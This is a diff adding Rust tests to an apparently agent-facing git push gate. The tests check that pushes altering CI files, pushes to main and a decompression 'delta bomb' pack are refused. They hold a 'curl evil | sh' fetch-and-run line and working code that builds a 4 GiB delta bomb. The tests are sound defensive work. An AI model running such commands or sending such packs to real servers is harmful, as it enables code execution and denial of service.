@@ -652,3 +652,168 @@ fn a_key_the_gates_user_cannot_read_refuses_start_naming_the_uids() {
         "{t}"
     );
 }
+
+/// A push that adds or changes a CI definition (which would run with the repository's
+/// secrets) is refused, naming the file and the setting, and upstream never sees it; with
+/// `allow_ci_changes` it lands; code-only pushes are untouched.
+#[test]
+fn ci_definitions_are_refused_unless_the_policy_allows_them() {
+    let (up, g) = setup(PushPolicy::for_agent("me"));
+    let (_s, work) = scratch_clone(&g, 2);
+    let code = commit_file(&work, "src.txt", "code\n", "code");
+    let o = run(git(&work).args(["push", "origin", "main:bottle/me/code"]));
+    assert!(o.status.success(), "{}", text(&o));
+    assert_eq!(
+        up.rev("r", "bottle/me/code").as_deref(),
+        Some(code.as_str())
+    );
+    for file in [".github/workflows/ci.yml", ".gitlab-ci.yml", "Jenkinsfile"] {
+        let p = work.join(file);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, "steps: [curl evil | sh]\n").unwrap();
+        sh(git(&work).args(["add", "-A"]));
+        sh(git(&work).args(["commit", "-qm", "ci"]));
+        let o = run(git(&work).args(["push", "origin", "HEAD:bottle/me/ci"]));
+        let out = text(&o);
+        assert!(!o.status.success(), "{out}");
+        assert!(
+            out.contains("changes CI definitions")
+                && out.contains(file)
+                && out.contains("allow_ci_changes: true"),
+            "{out}"
+        );
+        assert_eq!(up.rev("r", "bottle/me/ci"), None, "upstream never saw it");
+        sh(git(&work).args(["reset", "-q", "--hard", &code]));
+    }
+    // The agent's own branches only, by default: main is refused.
+    let o = run(git(&work).args(["push", "origin", "HEAD:main"]));
+    assert!(
+        !o.status.success() && text(&o).contains("may push only to refs/heads/bottle/me/*"),
+        "{}",
+        text(&o)
+    );
+    // With the setting, the same change lands.
+    drop(g);
+    let policy = PushPolicy {
+        allow_ci_changes: true,
+        ..PushPolicy::for_agent("me")
+    };
+    let g = gate(&up, vec![up.gate_repo("r", policy)]);
+    let (_s, work) = scratch_clone(&g, 2);
+    std::fs::create_dir_all(work.join(".github/workflows")).unwrap();
+    std::fs::write(work.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
+    sh(git(&work).args(["add", "-A"]));
+    sh(git(&work).args(["commit", "-qm", "ci"]));
+    let o = run(git(&work).args(["push", "origin", "HEAD:bottle/me/ci"]));
+    assert!(o.status.success(), "{}", text(&o));
+}
+
+/// A pack object header: type and size as git writes them.
+fn pack_header(kind: u8, mut size: u64) -> Vec<u8> {
+    let mut out = vec![(kind << 4) | (size & 0x0f) as u8];
+    size >>= 4;
+    while size > 0 {
+        *out.last_mut().unwrap() |= 0x80;
+        out.push((size & 0x7f) as u8);
+        size >>= 7;
+    }
+    out
+}
+
+fn deflate(data: &[u8]) -> Vec<u8> {
+    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    z.write_all(data).unwrap();
+    z.finish().unwrap()
+}
+
+/// A delta varint (sizes in a delta's header).
+fn varint(mut n: u64) -> Vec<u8> {
+    let mut out = Vec::new();
+    loop {
+        let b = (n & 0x7f) as u8;
+        n >>= 7;
+        if n == 0 {
+            out.push(b);
+            return out;
+        }
+        out.push(b | 0x80);
+    }
+}
+
+/// A pack of about 40 KiB: a 16 MiB blob of zeros and a delta on it whose result is 4 GiB
+/// (256 copies of the whole blob).
+fn delta_bomb() -> Vec<u8> {
+    use sha1::Digest as _;
+    let base_len: u64 = 0xff_ffff;
+    let base = vec![0u8; base_len as usize];
+    let base_id = sha1::Sha1::new()
+        .chain_update(format!("blob {base_len}\0"))
+        .chain_update(&base)
+        .finalize();
+    let mut delta = varint(base_len);
+    delta.extend(varint(base_len * 256));
+    for _ in 0..256 {
+        // Copy from offset 0, three size bytes: the whole base.
+        delta.extend([0x80 | 0x10 | 0x20 | 0x40, 0xff, 0xff, 0xff]);
+    }
+    let mut pack = b"PACK".to_vec();
+    pack.extend(2u32.to_be_bytes());
+    pack.extend(2u32.to_be_bytes());
+    pack.extend(pack_header(3, base_len));
+    pack.extend(deflate(&base));
+    pack.extend(pack_header(7, delta.len() as u64));
+    pack.extend(base_id.as_slice());
+    pack.extend(deflate(&delta));
+    let sum = sha1::Sha1::digest(&pack);
+    pack.extend(sum.as_slice());
+    pack
+}
+
+/// A delta bomb (a small pack whose delta inflates to gigabytes) is refused by the push's
+/// bounded memory, and the gate goes on serving; the push never reaches upstream.
+#[test]
+fn a_delta_bomb_push_is_refused() {
+    let (up, g) = setup(PushPolicy::for_agent("me"));
+    let pack = delta_bomb();
+    assert!(pack.len() < 100 << 10, "{}", pack.len());
+    let mut s = TcpStream::connect(g.addr).unwrap();
+    s.set_read_timeout(Some(std::time::Duration::from_secs(60)))
+        .unwrap();
+    s.write_all(&request(&format!(
+        "git-receive-pack /r.git\0host={}\0",
+        g.addr
+    )))
+    .unwrap();
+    // The advertisement, up to its flush.
+    let mut adv = Vec::new();
+    let mut byte = [0u8; 1];
+    while !adv.ends_with(b"0000") {
+        assert_eq!(
+            s.read(&mut byte).unwrap(),
+            1,
+            "{}",
+            String::from_utf8_lossy(&adv)
+        );
+        adv.push(byte[0]);
+    }
+    let zero = "0".repeat(40);
+    let new = "1".repeat(40);
+    s.write_all(&request(&format!(
+        "{zero} {new} refs/heads/bottle/me/bomb\0report-status\n"
+    )))
+    .unwrap();
+    s.write_all(b"0000").unwrap();
+    s.write_all(&pack).unwrap();
+    let started = std::time::Instant::now();
+    let mut answer = Vec::new();
+    let _ = s.read_to_end(&mut answer);
+    let answer = String::from_utf8_lossy(&answer);
+    assert!(
+        answer.contains("unpack") && !answer.contains("unpack ok"),
+        "{answer}"
+    );
+    assert!(started.elapsed() < std::time::Duration::from_secs(30));
+    assert_eq!(up.rev("r", "bottle/me/bomb"), None);
+    // Still serving.
+    let (_s, _work) = scratch_clone(&g, 2);
+}
